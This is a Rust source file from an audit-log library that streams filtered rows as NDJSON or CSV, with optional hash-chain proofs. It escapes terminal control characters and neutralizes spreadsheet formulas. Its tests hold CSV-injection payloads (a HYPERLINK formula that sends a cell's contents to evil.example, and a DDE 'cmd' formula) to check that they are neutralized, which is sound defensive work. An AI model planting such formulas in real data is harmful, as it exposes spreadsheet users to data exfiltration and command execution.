//! Streaming export of a filtered range as NDJSON or CSV, one keyset page in memory at a time.

use std::collections::{BTreeMap, BTreeSet, VecDeque};

use chrono::SecondsFormat;
use sea_orm::sea_query::Expr;
use sea_orm::{
    ColumnTrait, ConnectionTrait, DbBackend, EntityTrait, QueryFilter, QueryOrder, QuerySelect,
};
use serde_json::Value;

use super::query::{StoredCursor, stored_page};
use super::stored::{self, Stored, UnreadableRow, UnreadableValue, undecodable};
use super::{AuditFilter, PageRequest};
use crate::Error;
use crate::entity::audit_checkpoint as checkpoint;
use crate::entity::audit_log::{self, Model};

/// The output format of an [`Export`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExportFormat {
    /// One JSON object per line; nulls kept, JSON columns nested.
    Ndjson,
    /// RFC 4180 CSV with a header line; nulls as empty fields, JSON columns as JSON text.
    ///
    /// Safe to open in a spreadsheet: a text value that starts with `=`, `+`, `-`, `@` (or
    /// their fullwidth forms `＝ ＋ － ＠`), a tab or a carriage return, which a spreadsheet
    /// would take for a formula (a client's
    /// `User-Agent: =HYPERLINK(…)`, say), is written quoted with a `'` in front, as OWASP
    /// advises against CSV injection. Strip that one `'` to get the stored value back;
    /// [`Ndjson`](Self::Ndjson) keeps every value as stored.
    Csv,
}

/// Column names, and the OpenTelemetry attribute names used with [`Export::otel`].
///
/// Standard semantic-convention names where one exists; the rest under `audit.`. The columns
/// added after the first release (the record id, gRPC message counts and the hash chain's) come
/// last, so that readers of the older layout keep working.
pub const FIELDS: [(&str, &str); 32] = [
    ("id", "audit.id"),
    ("occurred_at", "timestamp"),
    ("request_id", "audit.request_id"),
    ("method", "http.request.method"),
    ("path", "url.path"),
    ("route", "http.route"),
    ("query", "url.query"),
    ("status", "http.response.status_code"),
    ("grpc_status", "rpc.grpc.status_code"),
    ("latency_us", "audit.latency_us"),
    ("client_ip", "client.address"),
    ("peer_ip", "network.peer.address"),
    ("user_agent", "user_agent.original"),
    ("user_id", "enduser.id"),
    ("tenant_id", "audit.tenant_id"),
    ("action", "audit.action"),
    ("resource", "audit.resource"),
    ("request_body", "audit.request_body"),
    ("request_body_truncated", "audit.request_body_truncated"),
    ("request_bytes", "http.request.body.size"),
    ("response_bytes", "http.response.body.size"),
    ("request_headers", "audit.request_headers"),
    ("extra", "audit.extra"),
    ("error", "error.message"),
    ("record_id", "audit.record_id"),
    ("grpc_messages_in", "audit.grpc.messages_in"),
    ("grpc_messages_out", "audit.grpc.messages_out"),
    ("chain_id", "audit.chain_id"),
    ("chain_seq", "audit.chain_seq"),
    ("prev_hash", "audit.prev_hash"),
    ("row_hash", "audit.row_hash"),
    ("key_id", "audit.key_id"),
];

/// An export of the rows matching a filter, oldest first.
///
/// | setting | default |
/// | --- | --- |
/// | `otel` | `false`: the table's column names |
/// | `page_size` | 1000 rows per query |
/// | `with_proof` | `false`: rows only |
///
/// Rows are read with keyset pagination and written page by page, so memory stays at one page
/// whatever the size of the range; [`ExportReport::largest_page`] says how many rows were held.
///
/// # Example
///
/// ```no_run
/// # async fn run(db: sea_orm::DatabaseConnection) -> Result<(), tower_audit::Error> {
/// use tower_audit::store::{AuditFilter, Export, ExportFormat};
///
/// let mut out = tokio::io::stdout();
/// let report = Export::new(ExportFormat::Ndjson)
///     .otel(true)
///     .to_async_writer(&db, &AuditFilter::new().user("alice"), &mut out)
///     .await?;
/// eprintln!("{} rows", report.rows);
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Export {
    format: ExportFormat,
    otel: bool,
    page_size: u64,
    with_proof: bool,
}

/// What an export wrote.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ExportReport {
    /// Rows written.
    pub rows: u64,
    /// Queries made.
    pub pages: u64,
    /// The most rows held in memory at once.
    pub largest_page: usize,
    /// The values stored in a column whose type cannot hold them (SQLite checks no types; no
    /// writer stores one), whose rows were written as stored: each such value as it is (a
    /// number, text, a blob as the text of its SQL literal `x'00ff'`), the others as usual.
    /// Verifying an export with proof reports a break at such a row, and at such a checkpoint
    /// or purge tombstone of the proof.
    pub unreadable: Vec<UnreadableValue>,
}

impl Export {
    /// An export in `format`, with the defaults above.
    pub fn new(format: ExportFormat) -> Self {
        Export {
            format,
            otel: false,
            page_size: 1000,
            with_proof: false,
        }
    }

    /// Names fields with OpenTelemetry attribute names (see [`FIELDS`]).
    #[must_use]
    pub fn otel(mut self, otel: bool) -> Self {
        self.otel = otel;
        self
    }

    /// Appends, after the rows, the proof that lets the export be verified offline with
    /// `tower_audit::integrity::verify_export` (feature `integrity`): for each hash chain among
    /// the exported rows, the checkpoints taken within the exported positions and the chain's
    /// latest purge tombstone before its first exported row, if it has one (see below for a time
    /// range), which that row must then follow; one line each as `{"checkpoint": {...}}`.
    ///
    /// A time range is completed to whole spans of positions: a chain's positions follow the
    /// order in which requests finished, `occurred_at` the order in which they arrived, so a slow
    /// request's row sits among rows that arrived after it. The rows that lie between the first
    /// and last exported position of a chain but arrived outside the range (and match the
    /// filter's other conditions) are written after the rows in range, in chain order, before the
    /// proof, and so is the row at the position before the first: offline verification trusts a
    /// chain's first row in the file as its start, so rows deleted from the range's start break
    /// the link to it. [`ExportReport::rows`] counts them. With no row of a chain left before the
    /// range, the proof holds the chain's latest purge tombstone, as without a time range.
    ///
    /// A proof needs [`ExportFormat::Ndjson`] and the table's column names (not
    /// [`otel`](Self::otel)); the export fails with [`Error::Config`] otherwise. Export a time
    /// range (or everything): other filters leave holes in the chains, which verify as deleted
    /// rows. A checkpoint or tombstone whose position holds text or a blob (SQLite keeps any
    /// value in any column; no writer stores one) lies in no range of positions: it goes into
    /// every proof of its chain, as stored, and verifies as a break.
    ///
    /// The rows and the proof are read page by page: give the export a
    /// [`snapshot`](super::snapshot) while a [`purge_before`](super::purge_before) may run, or
    /// the rows it deletes between two pages leave a hole that verifies as a break.
    #[must_use]
    pub fn with_proof(mut self, with_proof: bool) -> Self {
        self.with_proof = with_proof;
        self
    }

    /// Rows read per query, at least 1 and at most [`MAX_ROWS`](super::MAX_ROWS).
    #[must_use]
    pub fn page_size(mut self, rows: u64) -> Self {
        self.page_size = Ord::clamp(rows, 1, super::MAX_ROWS);
        self
    }

    /// Writes the export to an async writer, and flushes it.
    ///
    /// # Errors
    ///
    /// [`Error::Database`] when a query fails, [`Error::Io`] when writing fails,
    /// [`Error::Config`] when a proof is asked of CSV or OpenTelemetry names. A row holding a
    /// value its column cannot hold is written as stored (see [`ExportReport::unreadable`]),
    /// where SQLite's order puts it, even a time that is none.
    pub async fn to_async_writer<C, W>(
        &self,
        db: &C,
        filter: &AuditFilter,
        out: &mut W,
    ) -> Result<ExportReport, Error>
    where
        C: ConnectionTrait,
        W: tokio::io::AsyncWrite + Unpin + ?Sized,
    {
        use tokio::io::AsyncWriteExt;
        self.check()?;
        let mut chunks = Chunks::new(*self);
        let mut buf = Vec::new();
        while chunks.next(db, filter, &mut buf).await? {
            out.write_all(&buf).await?;
        }
        out.flush().await?;
        Ok(chunks.report)
    }

    /// Writes the export to a blocking writer (a file, stdout), and flushes it.
    ///
    /// # Errors
    ///
    /// [`Error::Database`] when a query fails, [`Error::Io`] when writing fails,
    /// [`Error::Config`] when a proof is asked of CSV or OpenTelemetry names. A row holding a
    /// value its column cannot hold is written as stored (see [`ExportReport::unreadable`]),
    /// where SQLite's order puts it, even a time that is none.
    pub async fn to_writer<C, W>(
        &self,
        db: &C,
        filter: &AuditFilter,
        out: &mut W,
    ) -> Result<ExportReport, Error>
    where
        C: ConnectionTrait,
        W: std::io::Write + ?Sized,
    {
        self.check()?;
        let mut chunks = Chunks::new(*self);
        let mut buf = Vec::new();
        while chunks.next(db, filter, &mut buf).await? {
            out.write_all(&buf)?;
        }
        out.flush()?;
        Ok(chunks.report)
    }

    fn check(&self) -> Result<(), Error> {
        if self.with_proof && (self.format != ExportFormat::Ndjson || self.otel) {
            return Err(Error::Config(
                "an export with proof needs NDJSON with the table's column names (not CSV, not \
                 OpenTelemetry names)"
                    .into(),
            ));
        }
        Ok(())
    }

    fn name(&self, field: usize) -> &'static str {
        let (column, otel) = FIELDS[field];
        if self.otel { otel } else { column }
    }

    fn header(&self, buf: &mut Vec<u8>) {
        buf.clear();
        for i in 0..FIELDS.len() {
            if i > 0 {
                buf.push(b',');
            }
            csv_field(self.name(i), buf);
        }
        buf.extend_from_slice(b"\r\n");
    }

    /// Appends one row in this export's format (with its line ending) to `buf`.
    ///
    /// # Errors
    ///
    /// Only if JSON serialization fails, which it does not for these values.
    pub fn write_row(&self, row: &Model, buf: &mut Vec<u8>) -> std::io::Result<()> {
        let mut values = values(row);
        if self.format == ExportFormat::Csv {
            // A JSON column is JSON text in CSV, as an object's is, a string among them too
            // (`request_headers` of a head cut for the queue's budget): bare, it is no JSON.
            for i in JSON_FIELDS {
                if let Value::String(text) = &values[i] {
                    values[i] = Value::String(Value::from(text.as_str()).to_string());
                }
            }
        }
        self.write_values(&values, buf)
    }

    /// Appends a row that holds values its columns cannot hold, those as stored.
    fn write_stored(&self, row: &UnreadableRow, buf: &mut Vec<u8>) -> std::io::Result<()> {
        let mut values = values(&row.model);
        for (column, stored) in &row.unreadable {
            if let Some(i) = FIELDS.iter().position(|(name, _)| name == column) {
                values[i] = stored.json.clone();
            }
        }
        self.write_values(&values, buf)
    }

    fn write_values(&self, values: &[Value; 32], buf: &mut Vec<u8>) -> std::io::Result<()> {
        match self.format {
            ExportFormat::Ndjson => {
                buf.push(b'{');
                for (i, value) in values.iter().enumerate() {
                    if i > 0 {
                        buf.push(b',');
                    }
                    serde_json::to_writer(&mut *buf, self.name(i)).map_err(std::io::Error::from)?;
                    buf.push(b':');
                    let mut json = serde_json::Serializer::with_formatter(&mut *buf, TerminalSafe);
                    serde::Serialize::serialize(value, &mut json).map_err(std::io::Error::from)?;
                }
                buf.extend_from_slice(b"}\n");
            }
            ExportFormat::Csv => {
                for (i, value) in values.iter().enumerate() {
                    if i > 0 {
                        buf.push(b',');
                    }
                    match value {
                        Value::Null => {}
                        Value::String(text) => csv_text(text, buf),
                        other => csv_field(&other.to_string(), buf),
                    }
                }
                buf.extend_from_slice(b"\r\n");
            }
        }
        Ok(())
    }
}

/// serde_json's compact JSON, with the characters a terminal acts on or draws as nothing (DEL,
/// C1 controls such as U+009B, an 8-bit CSI; bidirectional overrides; line separators;
/// zero-width characters: those [`printable`](super::printable) escapes) written as `\uXXXX`
/// too, where serde_json escapes only C0: the same values, safe to read on a terminal
/// (`tail -f --json`; found by a probe).
struct TerminalSafe;

impl serde_json::ser::Formatter for TerminalSafe {
    fn write_string_fragment<W: ?Sized + std::io::Write>(
        &mut self,
        writer: &mut W,
        fragment: &str,
    ) -> std::io::Result<()> {
        if fragment.bytes().all(|b| b < 0x7f) {
            return writer.write_all(fragment.as_bytes());
        }
        let mut start = 0;
        for (i, c) in fragment.char_indices() {
            if super::disturbs_terminal(c) {
                writer.write_all(&fragment.as_bytes()[start..i])?;
                let mut units = [0u16; 2];
                for unit in c.encode_utf16(&mut units) {
                    write!(writer, "\\u{unit:04x}")?;
                }
                start = i + c.len_utf8();
            }
        }
        writer.write_all(&fragment.as_bytes()[start..])
    }
}

/// The export cut into chunks of output: the CSV header, then one chunk per page, then the proof.
struct Chunks {
    export: Export,
    report: ExportReport,
    request: Option<PageRequest>,
    /// Where the next page of rows starts.
    after: Option<StoredCursor>,
    header_done: bool,
    /// Per chain among the rows written: the lowest and highest position.
    chains: BTreeMap<String, (i64, i64)>,
    /// With a proof, once the rows in range are written: per chain, the positions still to
    /// complete with rows outside the time range, `(chain, after, last)`; `after` as stored
    /// (a real, where one was planted in `chain_seq`).
    completing: Option<VecDeque<(String, sea_orm::Value, i64)>>,
    /// The chains exported from where they now start (no time range, or no row left before
    /// their first position in range): after their latest purge tombstone if they have one.
    from_start: BTreeSet<String>,
    proof_done: bool,
}

impl Chunks {
    fn new(export: Export) -> Self {
        Chunks {
            export,
            report: ExportReport::default(),
            request: Some(PageRequest::oldest_first(export.page_size)),
            after: None,
            header_done: export.format != ExportFormat::Csv,
            chains: BTreeMap::new(),
            completing: None,
            from_start: BTreeSet::new(),
            proof_done: !export.with_proof,
        }
    }

    /// Replaces `buf` with the next chunk; `false` when there is none.
    async fn next<C: ConnectionTrait>(
        &mut self,
        db: &C,
        filter: &AuditFilter,
        buf: &mut Vec<u8>,
    ) -> Result<bool, Error> {
        buf.clear();
        if !self.header_done {
            self.header_done = true;
            self.export.header(buf);
            return Ok(true);
        }
        let Some(request) = self.request else {
            if self.proof_done {
                return Ok(false);
            }
            if self.complete(db, filter, buf).await? {
                return Ok(true);
            }
            self.proof_done = true;
            self.proof(db, buf).await?;
            return Ok(true);
        };
        let (rows, next) = stored_page(db, filter, request, self.after.take()).await?;
        self.report.pages += 1;
        self.report.rows += rows.len() as u64;
        self.report.largest_page = self.report.largest_page.max(rows.len());
        for row in &rows {
            let row = match row {
                Stored::Row(row) => {
                    self.export.write_row(row, buf)?;
                    row
                }
                Stored::Unreadable(row) => {
                    self.write_unreadable(row, buf)?;
                    if row.holds_unreadable("chain_id") || row.holds_unreadable("chain_seq") {
                        continue;
                    }
                    &row.model
                }
            };
            if self.export.with_proof
                && let (Some(chain), Some(seq)) = (&row.chain_id, row.chain_seq)
            {
                let range = self.chains.entry(chain.clone()).or_insert((seq, seq));
                *range = (range.0.min(seq), range.1.max(seq));
            }
        }
        // Past the last row as stored: one whose time is none is no end of the export.
        self.request = next.is_some().then_some(request);
        self.after = next;
        Ok(true)
    }

    /// Writes a row that holds values its columns cannot hold, and reports them.
    fn write_unreadable(&mut self, row: &UnreadableRow, buf: &mut Vec<u8>) -> std::io::Result<()> {
        self.export.write_stored(row, buf)?;
        self.report.unreadable.extend(row.values());
        Ok(())
    }
}

impl Chunks {
    /// Writes the next page of rows that lie among the exported positions of a chain but arrived
    /// outside the filter's time range (see [`Export::with_proof`]); `false` when none is left.
    async fn complete<C: ConnectionTrait>(
        &mut self,
        db: &C,
        filter: &AuditFilter,
        buf: &mut Vec<u8>,
    ) -> Result<bool, Error> {
        let Some(outside) = filter.outside_time_range(db.get_database_backend()) else {
            // No time range: every chain is exported from where it now starts.
            self.from_start.extend(self.chains.keys().cloned());
            return Ok(false);
        };
        if self.completing.is_none() {
            let mut completing = VecDeque::with_capacity(self.chains.len());
            for (chain, range) in &mut self.chains {
                // The row before the first position in range, which offline verification trusts
                // as the chain's start: rows deleted from the range's start then break its link
                // to the first row in range.
                let before = audit_log::Entity::find()
                    .select_only()
                    .column_as(audit_log::Column::ChainSeq.max(), "before")
                    .filter(outside.clone())
                    .filter(audit_log::Column::ChainId.eq(chain.as_str()))
                    .filter(audit_log::Column::ChainSeq.lt(range.0))
                    .into_tuple::<Option<i64>>()
                    .one(db)
                    .await?
                    .flatten();
                let after = match before {
                    Some(before) => {
                        range.0 = before;
                        before.saturating_sub(1)
                    }
                    None => {
                        self.from_start.insert(chain.clone());
                        range.0
                    }
                };
                completing.push_back((chain.clone(), after.into(), range.1));
            }
            self.completing = Some(completing);
        }
        let Some(completing) = &mut self.completing else {
            return Ok(false);
        };
        while let Some((chain, after, last)) = completing.front_mut() {
            // Keyset by position, through the chain's index: one page in memory at a time.
            let select = audit_log::Entity::find()
                .filter(outside.clone())
                .filter(audit_log::Column::ChainId.eq(chain.as_str()))
                .filter(audit_log::Column::ChainSeq.gt(after.clone()))
                .filter(audit_log::Column::ChainSeq.lte(*last))
                .order_by_asc(audit_log::Column::ChainSeq)
                .limit(self.export.page_size);
            let rows = match select.clone().all(db).await {
                Ok(rows) => rows.into_iter().map(Stored::Row).collect(),
                Err(error) if undecodable(&error) => stored::rows(db, select).await?,
                Err(error) => return Err(error.into()),
            };
            self.report.pages += 1;
            let end = rows.last().and_then(|row| match row {
                Stored::Row(row) => row.chain_seq.map(sea_orm::Value::from),
                Stored::Unreadable(row) => row.chain_seq(),
            });
            match end {
                Some(seq) if rows.len() as u64 == self.export.page_size => *after = seq,
                _ => {
                    completing.pop_front();
                }
            }
            if rows.is_empty() {
                continue;
            }
            self.report.rows += rows.len() as u64;
            self.report.largest_page = self.report.largest_page.max(rows.len());
            for row in &rows {
                match row {
                    Stored::Row(row) => self.export.write_row(row, buf)?,
                    Stored::Unreadable(row) => {
                        self.export.write_stored(row, buf)?;
                        self.report.unreadable.extend(row.values());
                    }
                }
            }
            return Ok(true);
        }
        Ok(false)
    }

    /// The checkpoints within each exported chain's positions and the tombstone the first
    /// exported row follows, if it does, as `{"checkpoint": {...}}` lines.
    async fn proof<C: ConnectionTrait>(&mut self, db: &C, buf: &mut Vec<u8>) -> Result<(), Error> {
        for (chain_id, &(first, last)) in &self.chains {
            // A chain exported from where it now starts: the latest tombstone before its first
            // row, so that rows deleted after the tombstone are a gap offline too. Else the row
            // before the range is the start, and a tombstone counts only right before it.
            let before = if self.from_start.contains(chain_id) {
                checkpoint::Column::ChainSeq.lt(first)
            } else {
                checkpoint::Column::ChainSeq.eq(first.saturating_sub(1))
            };
            let tombstone = checkpoint::Entity::find()
                .filter(checkpoint::Column::ChainId.eq(chain_id.as_str()))
                .filter(checkpoint::Column::Kind.eq("purge"))
                .filter(before)
                .order_by_desc(checkpoint::Column::ChainSeq)
                .order_by_desc(checkpoint::Column::Id)
                .limit(1);
            let checkpoints = checkpoint::Entity::find()
                .filter(checkpoint::Column::ChainId.eq(chain_id.as_str()))
                .filter(checkpoint::Column::Kind.eq("checkpoint"))
                .filter(checkpoint::Column::ChainSeq.between(first, last))
                .order_by_asc(checkpoint::Column::ChainSeq);
            let mut marks = stored::checkpoints(db, tombstone).await?;
            marks.extend(stored::checkpoints(db, checkpoints).await?);
            if db.get_database_backend() == DbBackend::Sqlite {
                // A position planted as text or a blob (SQLite keeps any value in any column;
                // no writer stores one) sorts after every number: no range of positions holds
                // it, so it goes into every proof of its chain, for `verify_export` to report.
                let planted = checkpoint::Entity::find()
                    .filter(checkpoint::Column::ChainId.eq(chain_id.as_str()))
                    .filter(Expr::cust("typeof(\"chain_seq\") IN ('text', 'blob')"))
                    .order_by_asc(checkpoint::Column::Id);
                marks.extend(stored::checkpoints(db, planted).await?);
            }
            for mark in marks {
                // One that does not read goes as stored, for `verify_export` to refuse.
                let mark = match mark {
                    Ok(mark) => serde_json::to_value(mark).map_err(std::io::Error::from)?,
                    Err((stored, unreadable)) => {
                        self.report.unreadable.extend(unreadable);
                        stored
                    }
                };
                serde_json::to_writer(&mut *buf, &serde_json::json!({ "checkpoint": mark }))
                    .map_err(std::io::Error::from)?;
                buf.push(b'\n');
            }
        }
        Ok(())
    }
}

/// The positions in [`FIELDS`] of the columns that hold JSON: `request_headers` and `extra`.
const JSON_FIELDS: [usize; 2] = [21, 22];

/// The values of a row, in the order of [`FIELDS`].
fn values(row: &Model) -> [Value; 32] {
    let text = |v: &Option<String>| v.as_ref().map_or(Value::Null, |s| Value::from(s.as_str()));
    [
        row.id.into(),
        row.occurred_at
            .to_rfc3339_opts(SecondsFormat::AutoSi, true)
            .into(),
        text(&row.request_id),
        row.method.as_str().into(),
        row.path.as_str().into(),
        text(&row.route),
        text(&row.query),
        row.status.map_or(Value::Null, Value::from),
        row.grpc_status.map_or(Value::Null, Value::from),
        row.latency_us.into(),
        text(&row.client_ip),
        text(&row.peer_ip),
        text(&row.user_agent),
        text(&row.user_id),
        text(&row.tenant_id),
        text(&row.action),
        text(&row.resource),
        text(&row.request_body),
        row.request_body_truncated.into(),
        row.request_bytes.into(),
        row.response_bytes.into(),
        row.request_headers.clone().unwrap_or(Value::Null),
        row.extra.clone().unwrap_or(Value::Null),
        text(&row.error),
        row.record_id.as_str().into(),
        row.grpc_messages_in.map_or(Value::Null, Value::from),
        row.grpc_messages_out.map_or(Value::Null, Value::from),
        text(&row.chain_id),
        row.chain_seq.map_or(Value::Null, Value::from),
        text(&row.prev_hash),
        text(&row.row_hash),
        text(&row.key_id),
    ]
}

/// Appends `text` as one CSV field, quoted when it holds a separator, quote or line break.
fn csv_field(text: &str, buf: &mut Vec<u8>) {
    if text.contains([',', '"', '\n', '\r']) {
        buf.push(b'"');
        buf.extend_from_slice(text.replace('"', "\"\"").as_bytes());
        buf.push(b'"');
    } else {
        buf.extend_from_slice(text.as_bytes());
    }
}

/// Characters a spreadsheet takes for the start of a formula. Spreadsheets in CJK locales may
/// read the fullwidth `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20), which their input
/// methods type, as the ASCII forms. A NUL: LibreOffice Calc drops a leading one and evaluates
/// what follows (found by a probe: `\0=20+22` read as 42); no writer stores one (it stores
/// U+FFFD), but whoever can write to the database can.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Appends a stored text value as one CSV field. One that a spreadsheet would evaluate as a
/// formula (see [`FORMULA_STARTS`]) gets a `'` in front, and quotes, so that it is shown as
/// text: the values come from clients (paths, queries, user agents, bodies, errors). So does
/// one that starts with a `'` already, so that removing the first `'` of a field that has one
/// always gives the stored value back.
fn csv_text(text: &str, buf: &mut Vec<u8>) {
    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
        buf.extend_from_slice(b"\"'");
        buf.extend_from_slice(text.replace('"', "\"\"").as_bytes());
        buf.push(b'"');
    } else {
        csv_field(text, buf);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Found by a probe: NDJSON (and `--json`) wrote DEL, C1 controls, bidirectional overrides
    /// and line separators raw, where ESC was escaped. They are escaped too, and read back as
    /// the stored value.
    #[test]
    fn json_lines_escape_what_a_terminal_acts_on() {
        let error = "x\u{9b}2J\u{7f}\u{202e}gnp.exe\u{2028}y\u{200b}\u{e0041}\u{1b}[31m é 日本";
        let row = Model {
            error: Some(error.to_owned()),
            ..crate::writer::null_row()
        };
        let mut line = Vec::new();
        Export::new(ExportFormat::Ndjson)
            .write_row(&row, &mut line)
            .unwrap();
        let text = String::from_utf8(line).unwrap();
        for escaped in [
            "\\u009b",
            "\\u007f",
            "\\u202e",
            "\\u2028",
            "\\u200b",
            "\\udb40\\udc41",
            "\\u001b",
        ] {
            assert!(text.contains(escaped), "{escaped} in {text}");
        }
        assert!(text.contains(" é 日本"), "{text}");
        assert!(
            !text.trim_end().chars().any(crate::store::disturbs_terminal),
            "{text}"
        );
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(value["error"], error);
    }

    #[test]
    fn text_a_spreadsheet_would_evaluate_is_neutralized() {
        let field = |text: &str| {
            let mut buf = Vec::new();
            csv_text(text, &mut buf);
            String::from_utf8(buf).unwrap_or_default()
        };
        assert_eq!(
            field(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
        );
        assert_eq!(field("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
        assert_eq!(field("-2+3"), "\"'-2+3\"");
        assert_eq!(field("@SUM(1,1)"), "\"'@SUM(1,1)\"");
        assert_eq!(field("\t=1"), "\"'\t=1\"");
        assert_eq!(field("\r=1"), "\"'\r=1\"");
        assert_eq!(field("\0=20+22"), "\"'\0=20+22\"");
        // Fullwidth forms, as a CJK input method types them.
        assert_eq!(
            field("\u{FF1D}HYPERLINK(\"http://evil.example\")"),
            "\"'\u{FF1D}HYPERLINK(\"\"http://evil.example\"\")\""
        );
        for start in ['\u{FF0B}', '\u{FF0D}', '\u{FF20}'] {
            assert_eq!(
                field(&format!("{start}SUM(1,1)")),
                format!("\"'{start}SUM(1,1)\"")
            );
        }
        // Other fullwidth text is text.
        assert_eq!(field("\u{FF21}BC"), "\u{FF21}BC");
        // A value that starts with `'` keeps it behind the added one: `'=x` and `=x` differ.
        assert_eq!(field("'=1+1"), "\"''=1+1\"");
        assert_ne!(field("'=1+1"), field("=1+1"));
        // Anything else is written as before.
        assert_eq!(field("/orders/1"), "/orders/1");
        assert_eq!(field("a=b"), "a=b");
        assert_eq!(field(" =1"), " =1");
        assert_eq!(field("x,y"), "\"x,y\"");
    }

    #[test]
    fn json_fields_are_the_json_columns() {
        assert_eq!(
            JSON_FIELDS.map(|i| FIELDS[i].0),
            ["request_headers", "extra"]
        );
    }

    #[test]
    fn csv_fields_are_quoted_when_needed() {
        let mut buf = Vec::new();
        csv_field("plain", &mut buf);
        buf.push(b',');
        csv_field("say \"hi\", then\nleave", &mut buf);
        assert_eq!(
            String::from_utf8(buf).unwrap_or_default(),
            "plain,\"say \"\"hi\"\", then\nleave\""
        );
    }
}
